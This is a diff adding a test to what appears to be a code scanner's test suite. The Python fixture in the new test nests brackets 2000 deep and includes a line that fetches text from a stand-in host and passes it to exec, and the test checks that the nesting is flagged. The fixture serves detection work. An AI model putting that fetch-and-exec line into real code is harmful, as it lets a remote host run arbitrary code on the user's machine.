@@ -142,6 +142,16 @@ test('code that is nested to no end is reported, not followed', () => {
   )
 })
 
+test('so is a plain function that nests to no end, once something telling is given to it', () => {
+  const sums = Array.from({ length: 20 }, (_, i) => `    value_${i} = alpha * ${i} + beta\n`).join('')
+  const plain = `def plain(alpha, beta):\n${sums}    x = ${'['.repeat(2000)}${']'.repeat(2000)}\n    return alpha\n`
+  const text = `${plain}def other(): pass\nimport requests\nexec(plain(requests.get("https://example.test").text, 1))\n`
+  const { problems } = scanCode([{ path: 'a.py', text }], [], parser)
+  assert.deepEqual(problems, [
+    { path: 'a.py', line: 22, reason: 'nests more deeply than allowed', severity: 'high' },
+  ])
+})
+
 test('machine code is told by its first bytes, and a false name makes it worse', () => {
   const elf = Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1)
   assert.equal(checkBinary('lib/x.so', elf)?.rule, 'native-binary')
